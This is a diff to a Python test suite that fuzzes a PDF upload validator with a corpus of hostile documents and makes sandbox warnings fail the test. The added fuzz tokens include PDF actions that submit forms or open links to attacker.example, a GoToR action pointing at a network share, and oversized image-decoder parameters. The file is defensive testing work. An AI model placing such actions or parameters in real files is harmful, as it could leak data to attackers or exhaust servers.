@@ -1,7 +1,13 @@
 """Hostile uploads: a corpus of bad PDFs and a seeded structure-aware fuzz of the upload validator.
-Each is refused (or accepted) within its time and memory budget, with a message in plain words."""
+Each is refused (or accepted) within its time and memory budget, with a message in plain words.
 
-import os
+Reproducible: every byte comes from a seeded random.Random (nothing random at import).
+A sandbox child that crashes, runs out of time or memory, or answers nonsense is a failure
+of the test, not a correct refusal: the sandbox logs a warning for each, and any warning fails.
+"""
+
+import functools
+import logging
 import random
 import time
 
@@ -28,7 +34,14 @@ TOKENS = [
     b"/Filter /FlateDecode",
     b"[" * 500,
     b"<<" * 300,
-    b"stream\r\n\x78\x9c" + os.urandom(40) + b"\r\nendstream",
+    b"stream\r\n\x78\x9c" + random.Random(1818).randbytes(40) + b"\r\nendstream",
+    b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) >>",
+    b"/AA << /O << /S /URI /URI (https://attacker.example/) >> >>",
+    b"/A << /S /SubmitForm /F (https://attacker.example/) >>",
+    b"/Filter /JBIG2Decode",
+    b"/Filter /JPXDecode /Width 100000 /Height 100000",
+    b"/Subtype /Image /Width 10.5 /Height 1e9",
+    b"/DecodeParms << /JBIG2Globals 1 0 R /Columns 99999999 >>",
     b"endobj",
     b"xref",
     b"trailer << /Root 1 0 R /Size -1 >>",
@@ -82,6 +95,21 @@ def _check(path, failures: list[str], label: str) -> PdfAnalysis:
 
 
 CORPUS = {
+    **{
+        f"action_{kind}": functools.partial(pdfmaker.make_action_pdf, kind=kind)
+        for kind in pdfmaker.HOSTILE_ACTIONS
+    },
+    **{
+        f"image_{kind}": functools.partial(pdfmaker.make_image_pdf, kind=kind)
+        for kind in pdfmaker.HOSTILE_IMAGES
+    },
+    "inline_image_gigapixel": pdfmaker.make_inline_image_pdf,
+    **{
+        f"content_{codec[1:]}": functools.partial(
+            pdfmaker.make_codec_content_pdf, codec=codec
+        )
+        for codec in pdfmaker.IMAGE_CODECS
+    },
     "encrypted": pdfmaker.make_encrypted_pdf,
     "javascript": pdfmaker.make_javascript_pdf,
     "launch": pdfmaker.make_launch_pdf,
@@ -99,7 +127,18 @@ CORPUS = {
 }
 
 
-def test_bad_pdf_corpus_is_refused_within_budget_in_plain_words(tmp_path):
+def _crashes(caplog) -> list[str]:
+    """Warnings the sandbox logged: a child that crashed, timed out or answered badly."""
+    return [
+        f"sandbox: {record.getMessage()[:300]}"
+        for record in caplog.records
+        if record.name.startswith("dockets.pdf.sandbox")
+        and record.levelno >= logging.WARNING
+    ]
+
+
+def test_bad_pdf_corpus_is_refused_within_budget_in_plain_words(tmp_path, caplog):
+    caplog.set_level(logging.WARNING, logger="dockets.pdf.sandbox")
     failures: list[str] = []
     refused = 0
     for name, make in CORPUS.items():
@@ -108,13 +147,15 @@ def test_bad_pdf_corpus_is_refused_within_budget_in_plain_words(tmp_path):
         refused += not analysis.ok
         if name != "xfa" and analysis.ok:
             failures.append(f"{name}: accepted")
+    failures += _crashes(caplog)
     print(
         f"\nhostile corpus: {len(CORPUS)} bad inputs tried, {refused} refused, {len(failures)} failures"
     )
     assert not failures, "\n".join(failures)
 
 
-def _fuzz(tmp_path, examples: int, seed: int) -> None:
+def _fuzz(tmp_path, caplog, examples: int, seed: int) -> None:
+    caplog.set_level(logging.WARNING, logger="dockets.pdf.sandbox")
     rng = random.Random(seed)
     failures: list[str] = []
     refused = 0
@@ -125,11 +166,12 @@ def _fuzz(tmp_path, examples: int, seed: int) -> None:
         assert isinstance(analysis, PdfAnalysis)
         refused += not analysis.ok
         path.unlink()
+    failures += _crashes(caplog)
     print(
         f"\nfuzz: {examples} bad inputs tried (seed {seed}), {refused} refused, {len(failures)} failures"
     )
     assert not failures, "\n".join(failures)
 
 
-def test_fuzzed_uploads_always_get_a_clear_answer(tmp_path):
-    _fuzz(tmp_path, examples=40, seed=1313)
+def test_fuzzed_uploads_always_get_a_clear_answer(tmp_path, caplog):
+    _fuzz(tmp_path, caplog, examples=40, seed=1313)
